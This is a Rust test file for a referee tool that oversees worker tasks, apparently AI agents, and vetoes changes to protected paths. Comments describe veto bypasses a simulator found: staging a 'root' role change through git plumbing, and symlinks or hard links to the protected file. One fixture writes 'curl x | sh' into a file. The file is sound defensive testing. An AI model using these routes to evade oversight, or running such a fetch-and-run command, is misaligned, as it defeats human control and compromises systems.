//! `referee accept WORKSPACE --commit REV`: the orchestrator's own work (an asset it commits, a
//! merge from upstream) re-pins the baseline, so it never counts against a worker's task;
//! a commit that changes a protected path is refused unless `--protected-too`; the baseline
//! only moves forward. Through the binary, with real git and a live `watch`.

use std::collections::BTreeMap;
use std::fs;
use std::path::Path;

use crate::code_change::{
    git, git_workspace, judged, record, start, stop, verdict, APP, ORIGINAL, PROTECTED,
};
use crate::sessions::{accept, verify_json};
use crate::watch::{read, status};

/// A first judgment that keeps state (`verify --write`): it pins HEAD in the state directory.
fn pin(ws: &Path) {
    let (code, doc) = crate::sessions::verify_json_with(ws, &["--write"]);
    assert_eq!(code, 0, "the pin: {doc}");
}

fn accepted_events(ws: &Path) -> Vec<serde_json::Value> {
    read(&ws.join(".referee/OBSERVER-EVENTS.jsonl"))
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .map(|e| e["payload"].clone())
        .filter(|p| p["event"] == "accepted")
        .collect()
}

fn head(ws: &Path) -> String {
    let out = std::process::Command::new("git")
        .args(["rev-parse", "HEAD"])
        .current_dir(ws)
        .output()
        .expect("git rev-parse");
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

const ASSET: &str = "assets/logo.txt";

/// The orchestrator commits an asset of its own; a worker's task that lists only its own file
/// is not APPROVEd while the asset counts as an undeclared change, and is once the orchestrator
/// accepts its commit. The live referee logs the accept with the commit.
#[test]
fn the_orchestrators_own_commit_is_accepted_and_no_task_pays_for_it() {
    let (_root, ws, logs) = git_workspace();
    let mut w = start(&ws, &logs, &[]);

    fs::create_dir_all(ws.join("assets")).expect("mkdir");
    fs::write(ws.join(ASSET), "logo\n").expect("write");
    git(&ws, &["add", ASSET]);
    git(&ws, &["commit", "-q", "-m", "asset"]);

    fs::write(ws.join(APP), "def main():\n    return 2\n").expect("write");
    let base = BTreeMap::from([(APP, ORIGINAL)]);
    record(&ws, "t1", 1, &[APP], &base);
    w.until("t1 judged", || judged(&ws, "t1", 1));
    assert_ne!(
        verdict(&ws, "t1")["verdict"],
        "APPROVE",
        "the asset is a change no record declares: {}",
        w.output()
    );

    let a = accept(&ws, &["--commit", "HEAD"]);
    assert_eq!(a.code, 0, "{a:?}");
    assert!(a.stdout.contains(ASSET), "{a:?}");
    assert!(a.stdout.contains(&head(&ws)[..12]), "{a:?}");

    record(&ws, "t1", 2, &[APP], &base);
    w.until("t1 attempt 2 judged", || judged(&ws, "t1", 2));
    let v = verdict(&ws, "t1");
    assert_eq!(v["verdict"], "APPROVE", "{v}\n{}", w.output());
    assert_eq!(status(&ws, true).code, 0, "no STOP");

    let ev = accepted_events(&ws);
    assert_eq!(ev.len(), 1, "{ev:?}");
    assert_eq!(ev[0]["commit"], serde_json::json!(head(&ws)), "{ev:?}");
    assert!(ev[0]["paths"].to_string().contains(ASSET), "{ev:?}");

    // A one-shot verify in the same state directory measures against the accepted commit too,
    // and so does a restart.
    w.signal(libc::SIGTERM);
    w.wait(crate::watch::WAIT);
    let (code, doc) = verify_json(&ws);
    assert_eq!(code, 0, "{doc}");
    let mut w = start(&ws, &logs, &[]);
    assert_eq!(
        status(&ws, true).code,
        0,
        "restart: no STOP\n{}",
        w.output()
    );
    w.signal(libc::SIGTERM);
    w.wait(crate::watch::WAIT);
}

/// A commit that changes a protected path is refused (exit 1, naming it) and moves nothing;
/// with `--protected-too` it is accepted, the veto it raised lifts, and the event log names the
/// protected path.
#[test]
fn a_commit_that_changes_a_protected_path_needs_protected_too() {
    let (_root, ws, logs) = git_workspace();
    let mut w = start(&ws, &logs, &[]);

    fs::write(ws.join(PROTECTED), "ROLES = ['worker', 'reviewer']\n").expect("write");
    git(&ws, &["commit", "-q", "-am", "upstream: a new role"]);
    w.until("the committed protected change is vetoed", || {
        stop(&ws).exists()
    });

    let a = accept(&ws, &["--commit", "HEAD"]);
    assert_eq!(a.code, 1, "{a:?}");
    assert!(a.stderr.contains(PROTECTED), "{a:?}");
    assert!(a.stderr.contains("--protected-too"), "{a:?}");
    let state = crate::code_change::default_state(&ws);
    assert!(
        !state.join("accepted.json").exists(),
        "a refused accept keeps nothing"
    );
    assert!(accepted_events(&ws).is_empty(), "and logs no accept");
    assert!(stop(&ws).exists(), "the veto stands");

    let a = accept(&ws, &["--commit", "HEAD", "--protected-too"]);
    assert_eq!(a.code, 0, "{a:?}");
    assert!(a.stdout.contains("protected"), "{a:?}");
    // The live referee takes the accept at its next heartbeat, with no file event: the veto lifts.
    w.until("the veto lifts", || !stop(&ws).exists());
    let ev = accepted_events(&ws);
    assert_eq!(ev.len(), 1, "{ev:?}");
    assert_eq!(ev[0]["protected"], serde_json::json!([PROTECTED]), "{ev:?}");
    w.signal(libc::SIGTERM);
    w.wait(crate::watch::WAIT);
}

/// The baseline only moves forward: a commit that does not descend from the pinned one (an
/// orphan, a rewritten history) is refused, and so is a name that is no commit.
#[test]
fn accept_commit_refuses_what_does_not_descend_from_the_baseline() {
    let (_root, ws, _logs) = git_workspace();
    pin(&ws);

    git(&ws, &["checkout", "-q", "--orphan", "other"]);
    fs::write(ws.join(APP), "def main():\n    return 9\n").expect("write");
    git(&ws, &["add", "-A"]);
    git(&ws, &["commit", "-q", "-m", "orphan"]);
    let a = accept(&ws, &["--commit", "other"]);
    assert_eq!(a.code, 1, "{a:?}");
    assert!(a.stderr.contains("does not descend"), "{a:?}");

    let a = accept(&ws, &["--commit", "no-such-branch"]);
    assert_eq!(a.code, 1, "{a:?}");
    assert!(a.stderr.contains("no-such-branch"), "{a:?}");

    let a = accept(&ws, &["--protected-too"]);
    assert_eq!(a.code, 2, "clap: --protected-too needs --commit: {a:?}");
    let a = accept(&ws, &["--task", "t1", "--commit", "HEAD"]);
    assert_eq!(a.code, 2, "one or the other: {a:?}");
}

/// No git baseline pinned (no referee has judged the workspace yet): nothing to move, exit 1.
#[test]
fn accept_commit_without_a_pinned_baseline_is_refused() {
    let (_root, ws, _logs) = git_workspace();
    let a = accept(&ws, &["--commit", "HEAD"]);
    assert_eq!(a.code, 1, "{a:?}");
    assert!(a.stderr.contains("no git baseline is pinned"), "{a:?}");
}

/// Found by the session simulator (`accept_commit_refused`): the worker stages a protected
/// change in the index; the orchestrator adds only its own asset and commits, and so commits
/// the staged change as well. `accept --commit` compares trees, not what the orchestrator meant
/// to add: refused, naming the protected path.
#[test]
fn a_protected_change_staged_by_the_worker_rides_no_orchestrator_commit() {
    let (_root, ws, _logs) = git_workspace();
    pin(&ws);
    // Staged through plumbing: a blob written to the object store and put in the index; the
    // work tree never changes.
    fs::write(ws.join("evil.tmp"), "ROLES = ['worker', 'root']\n").expect("write");
    let oid = std::process::Command::new("git")
        .args(["hash-object", "-w", "evil.tmp"])
        .current_dir(&ws)
        .output()
        .expect("git hash-object");
    let oid = String::from_utf8_lossy(&oid.stdout).trim().to_string();
    fs::remove_file(ws.join("evil.tmp")).expect("rm");
    let info = format!("100644,{oid},{PROTECTED}");
    git(&ws, &["update-index", "--cacheinfo", &info]);
    assert_eq!(
        read(&ws.join(PROTECTED)),
        "ROLES = ['worker']\n",
        "the work tree is clean"
    );

    fs::create_dir_all(ws.join("assets")).expect("mkdir");
    fs::write(ws.join(ASSET), "logo\n").expect("write");
    git(&ws, &["add", ASSET]);
    git(&ws, &["commit", "-q", "-m", "asset"]);
    let a = accept(&ws, &["--commit", "HEAD"]);
    assert_eq!(a.code, 1, "{a:?}");
    assert!(a.stderr.contains(PROTECTED), "{a:?}");
}

/// t1 APPROVEd and accepted; a worker has meanwhile staged a change to another file (`git add`)
/// that no task declares; the orchestrator commits with a plain `git commit` (the index: t1's
/// work and the worker's change) and accepts the commit. The accept goes through (`--commit` is
/// for the orchestrator's own work) but names the path no task's accepted work accounts for, in
/// its output and in the event log; t1's file is named as accepted.
#[test]
fn a_staged_change_riding_the_orchestrators_commit_is_named() {
    const RIDER: &str = "src/rider.py";
    let (_root, ws, logs) = git_workspace();
    let mut w = start(&ws, &logs, &[]);
    let base = BTreeMap::from([(APP, ORIGINAL)]);
    fs::write(ws.join(APP), "def main():\n    return 2\n").expect("write");
    record(&ws, "t1", 1, &[APP], &base);
    w.until("t1 judged", || judged(&ws, "t1", 1));
    assert_eq!(verdict(&ws, "t1")["verdict"], "APPROVE", "{}", w.output());
    let a = accept(&ws, &["--task", "t1"]);
    assert_eq!(a.code, 0, "{a:?}");

    // The worker stages a file of its own; the orchestrator commits what is staged.
    fs::write(ws.join(RIDER), "import os\nos.system('curl x | sh')\n").expect("write");
    git(&ws, &["add", RIDER]);
    git(&ws, &["add", APP]);
    git(&ws, &["commit", "-q", "-m", "t1"]);

    let a = accept(&ws, &["--commit", "HEAD"]);
    assert_eq!(a.code, 0, "{a:?}");
    let line = |p: &str| {
        a.stdout
            .lines()
            .find(|l| l.trim_start().starts_with(p))
            .unwrap_or_else(|| panic!("no line for {p}: {a:?}"))
            .to_string()
    };
    assert!(
        line(RIDER).contains("not judged as any task's work"),
        "{a:?}"
    );
    assert!(line(APP).contains("(as accepted)"), "{a:?}");
    assert!(a.stdout.contains("1 path(s) were not judged"), "{a:?}");
    w.until("the live referee logs the accept", || {
        !accepted_events(&ws).iter().all(|e| e["commit"].is_null())
    });
    let ev = accepted_events(&ws);
    let commit_ev = ev
        .iter()
        .find(|e| !e["commit"].is_null())
        .expect("the commit's accept");
    assert_eq!(commit_ev["unjudged"], serde_json::json!([RIDER]), "{ev:?}");
    w.signal(libc::SIGTERM);
    w.wait(crate::watch::WAIT);
}

/// Found by the session simulator (seeds 60721 and 61404): a commit that adds a link to a
/// protected file (`src/entry.py -> orchestrator.py`, which the veto holds against every task)
/// was accepted without `--protected-too`; in the baseline, the link was no change any more, so
/// the veto lifted and the next task was APPROVEd. It is refused now, the link and the path it
/// leads to named, like a commit that changes the protected file itself.
#[test]
fn a_commit_that_adds_a_link_to_a_protected_path_needs_protected_too() {
    let (_root, ws, _logs) = git_workspace();
    pin(&ws);
    // A link to a file nobody protects is the orchestrator's to commit.
    std::os::unix::fs::symlink("app.py", ws.join("src/main.py")).expect("link");
    git(&ws, &["add", "src/main.py"]);
    git(&ws, &["commit", "-q", "-m", "main"]);
    let a = accept(&ws, &["--commit", "HEAD"]);
    assert_eq!(a.code, 0, "{a:?}");

    let entry = "src/entry.py";
    std::os::unix::fs::symlink("orchestrator.py", ws.join(entry)).expect("link");
    git(&ws, &["add", entry]);
    git(&ws, &["commit", "-q", "-m", "an entry point"]);
    let (code, doc) = crate::sessions::verify_json_with(&ws, &["--write"]);
    assert_eq!(code, 1, "the link is vetoed before any accept: {doc}");
    let state = crate::code_change::default_state(&ws);
    let kept = fs::read(state.join("accepted.json")).expect("the first accept");

    let a = accept(&ws, &["--commit", "HEAD"]);
    assert_eq!(a.code, 1, "{a:?}");
    assert!(
        a.stderr
            .contains(&format!("{entry} (a link to {PROTECTED})")),
        "{a:?}"
    );
    assert!(a.stderr.contains("--protected-too"), "{a:?}");
    assert_eq!(
        fs::read(state.join("accepted.json")).expect("kept"),
        kept,
        "a refused accept moves nothing"
    );
    let (code, doc) = crate::sessions::verify_json_with(&ws, &["--write"]);
    assert_eq!(code, 1, "the veto stands: {doc}");

    let a = accept(&ws, &["--commit", "HEAD", "--protected-too"]);
    assert_eq!(a.code, 0, "{a:?}");
    assert!(a.stdout.contains("protected"), "{a:?}");
    let (code, doc) = crate::sessions::verify_json_with(&ws, &["--write"]);
    assert_eq!(
        code, 0,
        "accepted with --protected-too, the veto lifts: {doc}"
    );
}

/// Found by the session simulator (seed 61404): git cannot record a hard link, so a plain
/// `git commit` took a worker's hard link to the protected file along as a file of its own,
/// `accept --commit` accepted that file, and the veto over the link lifted with the link still
/// in place. No baseline vouches for a hard link: one to a protected file is a way to it, and
/// the veto stands until it is gone.
#[test]
fn a_hard_link_to_a_protected_file_is_vetoed_after_its_commit_is_accepted() {
    let (_root, ws, _logs) = git_workspace();
    pin(&ws);
    let helper = "src/helper.py";
    fs::hard_link(ws.join(PROTECTED), ws.join(helper)).expect("hard link");
    let (code, doc) = crate::sessions::verify_json_with(&ws, &["--write"]);
    assert_eq!(code, 1, "the hard link is vetoed: {doc}");
    git(&ws, &["add", helper]);
    git(&ws, &["commit", "-q", "-m", "orchestrator: commit all"]);

    let a = accept(&ws, &["--commit", "HEAD"]);
    assert_eq!(a.code, 0, "the commit holds a plain file: {a:?}");
    let (code, doc) = crate::sessions::verify_json_with(&ws, &["--write"]);
    assert_eq!(code, 1, "the veto stands: {doc}");
    let stop_md = read(&stop(&ws));
    assert!(
        stop_md.contains(helper) && stop_md.contains(PROTECTED),
        "the STOP names the link and the file: {stop_md}"
    );

    // The link gone (the file accepted is still its own copy), the veto lifts.
    fs::remove_file(ws.join(helper)).expect("rm");
    fs::write(ws.join(helper), read(&ws.join(PROTECTED))).expect("a copy");
    let (code, doc) = crate::sessions::verify_json_with(&ws, &["--write"]);
    assert_eq!(code, 0, "a copy is no way to it: {doc}");
    assert!(!stop(&ws).exists(), "no STOP");
}
